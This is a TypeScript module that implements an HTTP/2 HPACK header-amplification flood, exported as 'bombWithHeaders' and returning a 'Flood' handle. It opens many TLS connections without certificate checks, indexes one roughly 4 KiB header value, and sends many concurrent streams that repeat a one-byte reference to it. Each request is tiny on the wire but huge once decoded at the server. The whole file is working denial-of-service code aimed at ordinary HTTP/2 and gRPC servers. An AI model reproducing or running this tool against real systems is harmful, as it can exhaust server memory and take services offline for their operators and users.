import { connect, type TLSSocket } from 'node:tls';
import { ELSEWHERE, type Flood } from './strangers.ts';

// HTTP/2 by hand (RFC 9113, RFC 7541): requests whose headers are few bytes on the wire, and many where they are read.

export interface HeaderBomb {
  connections: number;
  /** Requests of each connection, all at once. */
  streams: number;
  path: string;
  /** Of its `authorization`. */
  authorization: string;
  /** Bytes of headers of each request, to the next 4 KiB. */
  bytes: number;
  /** Whether the client takes answers, and says that it heeds the settings of the server. Default: true. */
  reads?: boolean;
  acknowledges?: boolean;
}

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const TYPE = { headers: 1, reset: 3, settings: 4 };
const END_STREAM = 1;
const ACK = 1;
const END_HEADERS = 4;

/** The longest value of a header `x` that fits into the table of HPACK, and its index there. */
const VALUE = Buffer.alloc(4096 - 32 - 1, 'x');
const INDEXED = 0x80 | 62;

/** Names of the static table (RFC 7541, appendix A). */
const STATIC = { authority: 1, path: 4, authorization: 23, contentType: 31 };
const POST = 0x83;
const HTTPS = 0x87;

export function bombWithHeaders(address: string, bomb: HeaderBomb): Flood {
  const { connections, streams, path, authorization, bytes, reads = true, acknowledges = true } = bomb;
  const [host = '', port] = address.split(':');
  const to = { host, port: Number(port), localAddress: ELSEWHERE };
  const ended = new Set<string>();
  const fields = Buffer.concat([
    Buffer.of(POST, HTTPS),
    literal(STATIC.authority, address),
    literal(STATIC.path, path),
    literal(STATIC.contentType, 'application/grpc'),
    literal(STATIC.authorization, authorization),
  ]);
  const repeats = Buffer.alloc(Math.floor(bytes / 4096), INDEXED);
  const indexing = Buffer.concat([Buffer.of(0x40, 1), Buffer.from('x'), integer(7, VALUE.length), VALUE]);
  const requests = Array.from({ length: streams }, (_, index) =>
    frame(
      TYPE.headers,
      END_HEADERS,
      2 * index + 1,
      Buffer.concat([index === 0 ? indexing : Buffer.of(), fields, repeats]),
    ),
  );
  const opening = Buffer.concat([Buffer.from(PREFACE), frame(TYPE.settings, 0, 0), ...requests]);
  const sockets = Array.from({ length: connections }, (_, connection) => {
    const socket: TLSSocket = connect({ ...to, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
    socket.on('error', () => undefined).once('secureConnect', () => void socket.write(opening));
    if (reads) {
      socket.on(
        'data',
        onFrames((type, flags, stream) => {
          if (acknowledges && type === TYPE.settings && flags !== ACK) {
            socket.write(frame(TYPE.settings, ACK, 0));
          }
          if (type === TYPE.reset || (type === TYPE.headers && flags & END_STREAM)) {
            ended.add(`${connection}/${stream}`);
          }
        }),
      );
    }
    return socket;
  });
  return {
    open: () => sockets.filter(({ destroyed, readyState }) => !destroyed && readyState === 'open').length,
    pending: () => connections * streams - ended.size,
    sent: () => sockets.reduce((sum, { bytesWritten }) => sum + bytesWritten, 0),
    stop: () => sockets.forEach((socket) => void socket.destroy()),
  };
}

function onFrames(seen: (type: number, flags: number, stream: number) => void): (chunk: Buffer) => void {
  let rest = Buffer.alloc(0);
  return (chunk) => {
    rest = Buffer.concat([rest, chunk]);
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      seen(rest.readUInt8(3), rest.readUInt8(4), rest.readUInt32BE(5));
      rest = rest.subarray(9 + rest.readUIntBE(0, 3));
    }
  };
}

function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header that is not put into the table. */
function literal(name: number, value: string): Buffer {
  return Buffer.concat([integer(4, name), integer(7, Buffer.byteLength(value)), Buffer.from(value)]);
}

/** RFC 7541, 5.1. */
function integer(prefix: number, value: number): Buffer {
  const max = 2 ** prefix - 1;
  if (value < max) {
    return Buffer.of(value);
  }
  const bytes = [max];
  let rest = value - max;
  for (; rest >= 128; rest = Math.floor(rest / 128)) {
    bytes.push((rest % 128) | 128);
  }
  return Buffer.of(...bytes, rest);
}
